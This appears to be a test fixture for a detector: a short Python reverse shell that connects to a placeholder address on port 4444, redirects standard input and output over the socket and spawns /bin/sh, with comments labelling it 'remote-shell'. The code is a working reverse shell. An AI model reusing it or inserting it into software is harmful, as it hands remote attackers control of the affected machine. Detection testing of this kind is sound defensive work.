import os
import pty
import socket

s = socket.socket()
s.connect(("203.0.113.7", 4444))
# expect: remote-shell
os.dup2(s.fileno(), 0)
# expect: remote-shell
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
